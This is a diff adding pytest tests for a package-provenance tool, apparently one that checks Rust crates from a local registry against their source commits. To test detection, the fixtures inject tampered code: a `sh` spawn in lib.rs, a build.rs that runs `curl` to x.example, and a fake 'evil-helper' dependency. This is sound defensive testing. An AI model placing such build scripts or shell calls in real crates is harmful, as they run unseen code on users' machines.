@@ -1,0 +1,149 @@
+"""Rust crates from a loopback sparse index, made by the real `cargo package` from the world's forge: genuine
+crates (at the root and in a workspace), crates a hijacked registry tampered with (code injected, a build.rs
+added, a dependency added to the normalised Cargo.toml or to the index), yanked versions, and Cargo.lock."""
+
+from __future__ import annotations
+
+import hashlib
+import json
+import shutil
+import subprocess
+import sys
+from pathlib import Path
+
+import pytest
+
+from ossprov import pipeline
+from ossprov.ecosystems.cargo import registry
+from ossprov.errors import InputError
+from ossprov.fixtures import cargo_registry as cr
+from ossprov.fixtures.world import World
+from ossprov.model import FileStatus, Verdict
+from tests.ecosystems.plugin_worlds import highs, point_at
+
+pytestmark = pytest.mark.skipif(shutil.which("cargo") is None, reason="needs cargo")
+
+MANIFEST = ('[package]\nname = "tiny"\nversion = "0.1.0"\nedition = "2021"\nlicense = "MIT"\n'
+            'description = "fixture"\nrepository = "https://github.com/acme/tiny"\n')
+FILES: dict[str, str | bytes] = {"Cargo.toml": MANIFEST, "src/lib.rs": "pub fn a() -> u32 { 1 }\n",
+                                 "README.md": "# tiny\n", ".gitignore": "/target\n"}
+
+
+@pytest.fixture
+def cargoworld(world: World, monkeypatch: pytest.MonkeyPatch) -> World:
+    point_at(cr.cargo_environment(world), monkeypatch)
+    return world
+
+
+def tiny(world: World, **publish: object) -> tuple[str, str]:
+    repo = world.repo("acme/tiny")
+    sha = repo.commit("release", FILES)
+    crate = cr.cargo_package(world, repo)
+    repo.commit("later", {"src/lib.rs": "pub fn a() -> u32 { 2 }\n"})
+    return cr.publish_crate(world, crate, "tiny", "0.1.0", **publish), sha  # type: ignore[arg-type]
+
+
+def test_genuine_crate_is_faithful_at_its_vcs_commit(cargoworld: World) -> None:
+    purl, sha = tiny(cargoworld)
+    result = pipeline.verify(purl)
+    assert result.verdict is Verdict.FAITHFUL, result.findings
+    assert result.locate.commit == sha and result.locate.artifact and result.locate.artifact.digest_ok is True
+    assert any(e.kind == "vcs-commit" for e in result.locate.evidence)
+    statuses = {r.path: r for r in result.file_results}
+    assert statuses["Cargo.toml.orig"].status is FileStatus.IDENTICAL
+    assert statuses["Cargo.toml.orig"].source_path == "Cargo.toml"
+    assert statuses["Cargo.toml"].status is FileStatus.NORMALIZED
+
+
+def test_workspace_member_with_inherited_version(cargoworld: World) -> None:
+    repo = cargoworld.repo("acme/ws")
+    sha = repo.commit("release", {
+        "Cargo.toml": '[workspace]\nmembers = ["crates/*"]\nresolver = "2"\n\n[workspace.package]\nversion = "1.2.0"\n'
+                      'edition = "2021"\n',
+        "crates/wsmember/Cargo.toml": '[package]\nname = "wsmember"\nversion.workspace = true\n'
+                                      'edition.workspace = true\nlicense = "MIT"\ndescription = "fixture"\n'
+                                      'repository = "https://github.com/acme/ws"\n',
+        "crates/wsmember/src/lib.rs": "pub fn b() {}\n", "LICENSE": "MIT\n"})
+    crate = cr.cargo_package(cargoworld, repo, "crates/wsmember")
+    result = pipeline.verify(cr.publish_crate(cargoworld, crate, "wsmember", "1.2.0"))
+    assert result.verdict is Verdict.FAITHFUL, result.findings
+    assert result.locate.commit == sha
+    assert result.locate.repository and result.locate.repository.subdir == "crates/wsmember"
+
+
+BUILD_RS = b"fn main() { std::process::Command::new(\"curl\").arg(\"x.example\").status().ok(); }\n"
+
+
+@pytest.mark.parametrize(("changes", "rule", "path"), [
+    ({"src/lib.rs": b"pub fn a() -> u32 { std::process::Command::new(\"sh\").status().ok(); 1 }\n"},
+     "OSP101", "src/lib.rs"),
+    ({"build.rs": BUILD_RS, "Cargo.toml": "build script on"}, "OSP112", "build.rs"),
+    ({"build.rs": BUILD_RS}, "OSP102", "build.rs"),  # `build = false` keeps cargo from running it: still foreign code
+])
+def test_hijacked_registry_serving_a_tampered_crate(cargoworld: World, changes: dict, rule: str, path: str) -> None:
+    purl, _ = tiny(cargoworld)
+    if changes.get("Cargo.toml") == "build script on":
+        normalised = cr.served_file(cargoworld, "tiny", "0.1.0", "Cargo.toml")
+        changes = {**changes, "Cargo.toml": normalised.replace(b"build = false", b'build = "build.rs"')}
+    cr.tamper_crate(cargoworld, "tiny", "0.1.0", changes)
+    proc = subprocess.run([sys.executable, "-m", "ossprov", "verify", purl, "--format", "json"],
+                          capture_output=True, text=True, timeout=300)
+    doc = json.loads(proc.stdout)
+    assert proc.returncode == 1, proc.stderr
+    assert doc["verdict"] == "mismatch"
+    assert any(f["rule"] == rule and f["path"] == path and f["severity"] == "high" for f in doc["findings"])
+
+
+def test_dependency_added_to_the_normalised_manifest(cargoworld: World) -> None:
+    purl, _ = tiny(cargoworld)
+    normalised = cr.served_file(cargoworld, "tiny", "0.1.0", "Cargo.toml")
+    cr.tamper_crate(cargoworld, "tiny", "0.1.0", {"Cargo.toml": normalised + b'\n[dependencies.evil-helper]\n'
+                                                  b'version = "1"\n'})
+    result = pipeline.verify(purl)
+    assert result.verdict is Verdict.MISMATCH
+    assert any(f.rule == "OSP113" and f.path == "Cargo.toml" for f in highs(result)), result.findings
+
+
+def test_index_listing_a_dependency_the_crate_does_not_declare(cargoworld: World) -> None:
+    purl, _ = tiny(cargoworld, deps=("evil-helper",))
+    result = pipeline.verify(purl)
+    assert any(f.rule == "OSP113" and "evil-helper" in f.message for f in highs(result)), result.findings
+
+
+def test_yanked_crate(cargoworld: World) -> None:
+    purl, _ = tiny(cargoworld, yanked=True)
+    assert any(f.rule == "OSP512" for f in pipeline.verify(purl).findings)
+
+
+def test_scan_cargo_lock(cargoworld: World, tmp_path: Path) -> None:
+    purl, _ = tiny(cargoworld)
+    crate = cargoworld.root / "registry" / "cargo" / "dl" / "tiny" / "0.1.0" / "download"
+    good = hashlib.sha256(crate.read_bytes()).hexdigest()
+    lock = tmp_path / "Cargo.lock"
+
+    def scan(checksum: str) -> dict:
+        lock.write_text('version = 3\n\n[[package]]\nname = "app"\nversion = "0.1.0"\ndependencies = ["tiny"]\n\n'
+                        '[[package]]\nname = "tiny"\nversion = "0.1.0"\nsource = "sparse+http://127.0.0.1/x/"\n'
+                        f'checksum = "{checksum}"\n\n[[package]]\nname = "gitdep"\nversion = "0.1.0"\n'
+                        'source = "git+https://example.org/x#abc"\n')
+        proc = subprocess.run([sys.executable, "-m", "ossprov", "scan", str(lock), "--format", "json"],
+                              capture_output=True, text=True, timeout=300)
+        return {d["purl"]: d for d in json.loads(proc.stdout)}[purl]
+
+    assert scan(good)["verdict"] == "faithful"
+    assert any(f["rule"] == "OSP514" for f in scan("0" * 64)["findings"])
+
+
+def test_registry_from_cargo_source_replacement(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.delenv("OSSPROV_CARGO_REGISTRY", raising=False)
+    monkeypatch.setenv("CARGO_HOME", str(tmp_path))
+    monkeypatch.chdir(tmp_path)
+    with pytest.raises(InputError, match="no cargo registry configured"):
+        registry.index_url()
+    (tmp_path / "config.toml").write_text('[source.crates-io]\nreplace-with = "mirror"\n\n'
+                                          '[source.mirror]\nregistry = "sparse+https://mirror.example/index"\n')
+    assert registry.index_url() == "https://mirror.example/index/"
+    assert registry.index_path("Serde") == "se/rd/serde" and registry.index_path("a") == "1/a"
+    assert registry.index_path("syn") == "3/s/syn"
+    assert registry.download_url("https://dl.example/{lowerprefix}/{crate}-{version}", "Ab", "1.0", "c") == \
+        "https://dl.example/2/Ab-1.0"
